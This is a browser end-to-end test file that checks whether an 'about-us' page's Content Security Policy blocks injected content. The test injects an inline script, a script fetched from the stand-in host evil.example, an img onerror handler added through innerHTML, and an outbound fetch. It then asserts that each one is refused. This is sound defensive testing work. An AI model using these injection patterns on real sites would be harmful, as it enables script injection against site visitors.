import { expect, test } from "./support/fixtures"
import { whenHydrated } from "./support/journey"

test("injected scripts do not run", async ({ page, complaints }) => {
  complaints.allow(/Content Security Policy|evil\.example|This document requires/)
  await page.goto("about-us")
  await whenHydrated(page)
  const ran = await page.evaluate(async () => {
    let violations = 0
    addEventListener("securitypolicyviolation", () => (violations += 1))
    const inline = document.createElement("script")
    inline.textContent = "window.ranInline = true"
    document.body.append(inline)
    const foreign = document.createElement("script")
    const settled = new Promise((resolve) => foreign.addEventListener("error", resolve))
    foreign.src = "https://evil.example/x.js"
    document.body.append(foreign)
    await settled
    const image = document.createElement("div")
    image.innerHTML = '<img src="data:," onerror="window.ranHandler = true"><p style="color: rgb(1, 2, 3)">x</p>'
    document.body.append(image)
    const sent = await fetch("https://evil.example/").catch(() => "refused")
    const colour = getComputedStyle(image.querySelector("p") ?? image).color
    return { inline: "ranInline" in window, handler: "ranHandler" in window, sent, colour, told: violations > 0 }
  })
  expect(ran).toEqual({
    inline: false,
    handler: false,
    sent: "refused",
    colour: expect.not.stringContaining("1, 2, 3"),
    told: true,
  })
})
